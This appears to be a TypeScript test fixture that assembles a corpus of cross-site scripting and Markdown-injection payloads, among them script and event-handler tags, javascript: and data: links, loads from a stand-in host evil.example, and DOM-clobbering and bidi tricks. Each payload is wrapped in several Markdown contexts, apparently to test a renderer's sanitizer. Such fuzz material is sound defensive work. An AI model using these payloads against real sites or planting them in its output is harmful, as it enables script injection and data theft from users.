/** Short hostile texts, each wrapped in what Markdown has around texts: some hundreds in all, to be drawn letter by letter. */
const TEXTS = [
  '<script>pwned=1</script>', '<script src=//evil.example/x></script>', '<SCRIPT/x>pwned=1</SCRIPT>', '<<script>pwned=1//<</script>', '<scr<script>ipt>pwned=1</script>',
  '<img src=x onerror=pwned=1>', '<img/src=x/onerror=pwned=1>', '<img src="x`onerror=pwned=1//">', '<IMG SRC=x OnErRoR=pwned=1>', '<img src=//evil.example/p.png>',
  '<svg onload=pwned=1>', '<svg><script>pwned=1</script></svg>', '<svg><a xlink:href=javascript:pwned=1>x</a></svg>', '<svg><animate onbegin=pwned=1 attributeName=x>',
  '<svg><use href=data:image/svg+xml,<svg/>></svg>', '<svg><style><img src=x onerror=pwned=1></style>', '<math><mtext><style><img src=x onerror=pwned=1>', '<math href=javascript:pwned=1>x</math>',
  '<body onload=pwned=1>', '<div onmouseover=pwned=1 onclick=pwned=1>x</div>', '<details open ontoggle=pwned=1>x', '<input autofocus onfocus=pwned=1>', '<video src=x onerror=pwned=1>',
  '<audio src=//evil.example/a onplay=pwned=1 autoplay>', '<iframe src=javascript:pwned=1>', '<iframe srcdoc="<script>top.pwned=1</script>">', '<object data=//evil.example/o>',
  '<embed src=//evil.example/e>', '<link rel=stylesheet href=//evil.example/s>', '<style>@import "//evil.example/i"</style>', '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil.example>', '<form action=//evil.example><button>x', '<a href=javascript:pwned=1>x</a>', '<a href="java&#9;script:pwned=1">x</a>',
  '<b style="background:url(//evil.example/b)">x</b>', '<template><img src=x onerror=pwned=1></template>', '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  '<!--><img src=x onerror=pwned=1>-->', '<![CDATA[<img src=x onerror=pwned=1>]]>', '<?xml <img src=x onerror=pwned=1>?>', '<p class=panel id=page>x</p>', '<br onclick=pwned=1>', '<sub onclick=pwned=1>x</sub>',
  '[x](javascript:pwned=1)', '[x](JaVaScRiPt:pwned=1)', '[x](<java\tscript:pwned=1>)', '[x](&#106;avascript:pwned=1)', '[x](javascript&colon;pwned=1)', '[x](\u0001javascript:pwned=1)',
  '[x](vbscript:pwned)', '[x](data:text/html,<script>pwned=1</script>)', '[x](blob:https://evil.example/1)', '[x](//evil.example)', '[x](/chat)', '[x](file:///etc/passwd)',
  '[x](https://evil.example "onclick=pwned=1")', '[x](https://evil.example/"onclick=pwned=1)', '[x]: javascript:pwned=1\n\n[x]', '<javascript:pwned=1>', '<https://evil.example/"onclick=pwned=1>',
  '![x](//evil.example/1.png)', '![x](data:image/svg+xml,<svg/onload=pwned=1>)', '![" onerror=pwned=1](https://evil.example/x.png)', '[![x](//evil.example/2.png)](javascript:pwned=1)',
  '`<img src=x onerror=pwned=1>`', '```html" onclick="pwned=1\n<script>pwned=1</script>', '~~~<script>\n<img src=x onerror=pwned=1>', '    <script>pwned=1</script>', '&lt;img src=x onerror=pwned=1&gt;',
  '&#60;script&#62;pwned=1&#60;/script&#62;', '\\<script>pwned=1\\</script>', '\u001B]8;;javascript:pwned=1\u0007x\u001B]8;;\u0007', '\u202Egnp.exe \u2066x\u200B', 'www.evil.example/<img src=x onerror=pwned=1>',
  'event: done\ndata: {}\n\nid: 9', '*<img src=x onerror=pwned=1>*', '<a name=getElementById id=cookie>x</a>',
] as const;

const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `- a ${text}`,
  (text) => `> # ${text}`,
  (text) => `|${text.replaceAll('\n', ' ')}|b|\n|-|-|\n|c|d|`,
  (text) => `|a|b|\n|-|-|\n|${text.replaceAll('\n', ' ')}|d|`,
  (text) => `1. **${text}** ~~*${text}*~~`,
];

export const CORPUS: readonly string[] = TEXTS.flatMap((text) => AROUND.map((around) => around(text)));
